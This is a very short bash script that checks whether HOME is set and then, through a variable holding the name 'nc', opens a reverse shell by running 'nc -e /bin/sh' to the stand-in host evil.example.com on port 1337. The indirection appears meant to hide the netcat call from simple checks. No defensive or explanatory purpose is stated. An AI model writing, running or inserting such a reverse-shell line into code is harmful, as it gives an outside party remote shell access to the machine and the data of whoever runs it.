#!/usr/bin/env bash
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
N=nc
$N -e /bin/sh evil.example.com 1337
